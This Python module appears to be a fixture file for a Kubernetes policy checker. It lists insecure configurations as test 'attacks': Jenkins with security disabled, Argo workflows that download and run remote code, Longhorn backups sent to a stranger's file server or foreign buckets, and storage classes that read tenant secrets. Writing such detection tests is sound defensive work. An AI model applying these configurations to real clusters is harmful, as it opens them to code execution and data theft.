"""Ideas that were known to pass: weak defaults of charts that an operator installs, programs without sign-in, and
storage of others (2026-11-29). Those on Longhorn and on classes of volumes were refused when they were first run."""

import json

from ..blind import KUBE, TAGS, crd, k8s, meta
from ..harness import Given
from . import Attack

OPEN = ("FJ-EXP-", "FJ-IDN-")
ENC = ("FJ-ENC-",)
IDN = ("FJ-IDN-",)
RES = ("FJ-RES-",)
REPOSITORY = "oci://registry.dc1.example.ae/charts"


def _release(chart: str, values: object) -> Given:
    return Given("kubernetes:helm.sh/v3:Release", {
        "chart": f"{REPOSITORY}/{chart}", "version": "1.0.0", "namespace": chart, "name": chart, "values": values},
        chart, provider=KUBE)  # fmt: skip


def _class(kind: str, **more: object) -> Given:
    return k8s(f"{kind}", {"metadata": {"name": "x", "labels": TAGS}, **more})


def _argo(**source: object) -> Given:
    return k8s(
        "argoproj.io/v1alpha1:Application",
        {
            "metadata": meta("x", "argocd"),
            "spec": {
                "project": "platform",
                "destination": {"server": "https://kubernetes.default.svc", "namespace": "x"},
                "source": {"repoURL": "registry.dc1.example.ae/charts", "targetRevision": "1.0.0", **source},
            },
        },
    )


ATTACKS = (
    Attack("Jenkins lets everybody do everything by an object of its strategy", IDN, (
        _release("jenkins", {"controller": {"JCasC": {"configScripts": {
            "security": "jenkins:\n  authorizationStrategy:\n    unsecured: {}\n"}}}}),),
        "critical", "whoever reaches the page runs programs (Jenkins, 'Configuration as Code', authorizationStrategy)"),
    Attack("Jenkins lets everybody do everything by values of the chart", IDN, (
        _release("jenkins", {"controller": {"JCasC": {"authorizationStrategy": "unsecured: {}"}}}),),
        "critical", "as above (jenkinsci/helm-charts, values, controller.JCasC.authorizationStrategy)"),
    Attack("Jenkins lets everybody do everything by a map in its configuration", IDN, (
        k8s("core/v1:ConfigMap", {"metadata": meta(), "data": {
            "jenkins.yaml": json.dumps({"jenkins": {"authorizationStrategy": {"unsecured": {}}}})}}),),
        "critical", "as above (Jenkins, 'Configuration as Code', authorizationStrategy)"),
    Attack("Jenkins has no rights at all by a script of its start", IDN, (
        k8s("core/v1:ConfigMap", {"metadata": meta(), "data": {"init.groovy": (
            "import jenkins.model.Jenkins\nimport hudson.security.*\n"
            "Jenkins.get().setAuthorizationStrategy(new AuthorizationStrategy.Unsecured())\n")}}),),
        "critical", "as above (Jenkins, 'Groovy Hook Scripts')"),
    Attack("Jenkins has no rights at all by disabling its security", IDN, (
        k8s("core/v1:ConfigMap", {"metadata": meta(), "data": {"init.groovy": (
            "import jenkins.model.Jenkins\nJenkins.instance.disableSecurity()\n")}}),),
        "critical", "as above (Jenkins, Javadoc, Jenkins.disableSecurity)"),
    Attack("Argo CD installs a store of vectors that asks nobody", IDN, (
        _argo(chart="qdrant", helm={"releaseName": "qdrant", "valuesObject": {"replicaCount": 3}}),),
        "major", "every caller reads and writes the store (Qdrant, chart qdrant, apiKey)"),
    Attack("Argo CD installs a store of vectors among several sources", IDN, (
        k8s("argoproj.io/v1alpha1:Application", {"metadata": meta("x", "argocd"), "spec": {
            "project": "platform", "destination": {"server": "https://kubernetes.default.svc", "namespace": "x"},
            "sources": [{"repoURL": "registry.dc1.example.ae/charts", "chart": "qdrant", "targetRevision": "1.0.0",
                         "helm": {"values": "replicaCount: 3\n"}}]}}),),
        "major", "as above (Argo CD, 'Multiple Sources for an Application')"),
    Attack("Flux installs a registry of models that asks nobody", IDN, (
        crd("helm.toolkit.fluxcd.io/v2:HelmRelease", {
            "interval": "10m", "chart": {"spec": {"chart": "mlflow", "version": "1.0.0", "sourceRef": {
                "kind": "HelmRepository", "name": "bank"}}}, "values": {"replicaCount": 2}}),),
        "major", "every caller reads and replaces each model (community-charts, chart mlflow, auth)"),
    Attack("k3s installs a vault without TLS", IDN + RES + ENC, (
        k8s("helm.cattle.io/v1:HelmChart", {"metadata": meta("vault", "kube-system"), "spec": {
            "chart": f"{REPOSITORY}/vault", "version": "0.30.0", "targetNamespace": "vault",
            "valuesContent": "server:\n  ha:\n    enabled: true\n"}}),),
        "major", "tokens and secrets cross the network in plain text (HashiCorp, chart vault, global.tlsDisable)"),
    Attack("a workflow runs what a public repository says", ("FJ-ESC-", *IDN), (
        crd("argoproj.io/v1alpha1:WorkflowTemplate", {"entrypoint": "a", "templates": [{
            "name": "a", "inputs": {"artifacts": [{"name": "code", "path": "/src", "git": {
                "repo": "https://github.com/collector/tools.git", "revision": "v1.2.0"}}]},
            "container": {"image": "registry.example.ae/python@sha256:" + "a" * 64,
                          "command": ["python", "/src/run.py"]}}]}),),
        "critical", "the owner of the repository runs programs in the cluster (Argo Workflows, 'Hardwired Artifacts', "
        "git)"),
    Attack("a workflow starts with a program from the web", ("FJ-ESC-", *IDN, *RES), (
        crd("argoproj.io/v1alpha1:CronWorkflow", {"schedules": ["0 1 * * *"], "workflowSpec": {
            "entrypoint": "a", "templates": [{
                "name": "a", "inputs": {"artifacts": [{"name": "code", "path": "/bin/tool", "mode": 493, "http": {
                    "url": "https://downloads.collector.io/tool"}}]},
                "container": {"image": "registry.example.ae/python@sha256:" + "a" * 64, "command": ["/bin/tool"]}}]}}),
        ),
        "critical", "the owner of the host runs programs in the cluster (Argo Workflows, 'Hardwired Artifacts', http)"),
    Attack("an object of KEDA takes requests of every host", OPEN, (
        crd("http.keda.sh/v1alpha1:HTTPScaledObject", {
            "scaleTargetRef": {"name": "x", "service": "x", "port": 8080}, "replicas": {"min": 0, "max": 5}}),),
        "major", "it takes requests of others that no object names (KEDA HTTP Add-on, 'HTTPScaledObject', hosts)"),
    Attack("an object of KEDA takes requests of every host by a pattern", OPEN, (
        crd("http.keda.sh/v1alpha1:HTTPScaledObject", {
            "hosts": ["*"], "scaleTargetRef": {"name": "x", "service": "x", "port": 8080},
            "replicas": {"min": 0, "max": 5}}),),
        "major", "as above (KEDA HTTP Add-on, 'HTTPScaledObject', hosts)"),
    Attack("the ingress of a chart has no TLS", ENC, (
        _release("app", {"ingress": {"enabled": True, "className": "internal", "hosts": [{
            "host": "app.example.ae", "paths": [{"path": "/", "pathType": "Prefix"}]}]}}),),
        "major", "passwords cross the network in plain text (Helm, the values that `helm create` writes, ingress.tls)"),
    Attack("the ingress of a chart has an empty list of TLS", ENC, (
        _release("app", {"server": {"ingress": {
            "enabled": True, "hostname": "app.example.ae", "tls": [], "path": "/"}}}),),
        "major", "as above (Helm, the values that `helm create` writes, ingress.tls)"),
    Attack("backups of volumes go to a file server of a stranger", RES + ENC, (
        k8s("longhorn.io/v1beta2:BackupTarget", {"metadata": meta("default", "longhorn-system"), "spec": {
            "backupTargetURL": "nfs://198.51.100.7:/export", "pollInterval": "5m0s"}}),),
        "critical", "every volume leaves, in plain text (Longhorn, 'Setting a Backup Target')"),
    Attack("backups of volumes go to a bucket abroad", RES, (
        k8s("longhorn.io/v1beta2:BackupTarget", {"metadata": meta("default", "longhorn-system"), "spec": {
            "backupTargetURL": "s3://collector-archive@us-east-1/", "credentialSecret": "s3"}}),),
        "critical", "every volume leaves the country (Longhorn, 'Setting a Backup Target')"),
    Attack("a setting of Longhorn sends backups to a bucket abroad", RES, (
        k8s("longhorn.io/v1beta2:Setting", {
            "metadata": meta("backup-target", "longhorn-system"), "value": "s3://collector-archive@us-east-1/"}),),
        "critical", "as above (Longhorn, 'Settings Reference', backup-target)"),
    Attack("the chart of Longhorn sends backups to a share of a stranger", RES + ENC, (
        _release("longhorn", {"defaultSettings": {"backupTarget": "cifs://198.51.100.7/backups"}}),),
        "critical", "as above (Longhorn, chart, defaultSettings.backupTarget)"),
    Attack("backups of volumes go to a container of a stranger", RES, (
        k8s("longhorn.io/v1beta2:BackupTarget", {"metadata": meta("default", "longhorn-system"), "spec": {
            "backupTargetURL": "azblob://collector@core.windows.net/", "credentialSecret": "azure"}}),),
        "critical", "as above (Longhorn, 'Setting a Backup Target')"),
    Attack("a class of volumes takes its secret from a tenant's namespace", IDN, (
        _class("storage.k8s.io/v1:StorageClass", provisioner="rbd.csi.ceph.com", parameters={
            "clusterID": "a", "pool": "b", "encrypted": "true", "encryptionKMSID": "vault",
            "csi.storage.k8s.io/provisioner-secret-name": "rbd",
            "csi.storage.k8s.io/provisioner-secret-namespace": "team-a",
            "csi.storage.k8s.io/node-stage-secret-name": "rbd",
            "csi.storage.k8s.io/node-stage-secret-namespace": "team-a"}),),
        "major", "the tenant reads the key of the storage (Kubernetes CSI, 'StorageClass Secrets')"),
    Attack("a class of volumes takes the secret that a claim names", IDN, (
        _class("storage.k8s.io/v1:StorageClass", provisioner="rbd.csi.ceph.com", parameters={
            "clusterID": "a", "pool": "b", "encrypted": "true", "encryptionKMSID": "vault",
            "csi.storage.k8s.io/node-publish-secret-name": "${pvc.annotations['secret']}",
            "csi.storage.k8s.io/node-publish-secret-namespace": "${pvc.annotations['namespace']}"}),),
        "major", "whoever makes a claim uses secrets of other namespaces (Kubernetes CSI, 'StorageClass Secrets')"),
    Attack("a class of snapshots takes its secret from a tenant's namespace", IDN, (
        _class("snapshot.storage.k8s.io/v1:VolumeSnapshotClass", driver="rbd.csi.ceph.com", deletionPolicy="Retain",
               parameters={"clusterID": "a", "csi.storage.k8s.io/snapshotter-secret-name": "rbd",
                           "csi.storage.k8s.io/snapshotter-secret-namespace": "team-a"}),),
        "major", "as above (Kubernetes CSI, 'VolumeSnapshotClass Secrets')"),
)  # fmt: skip
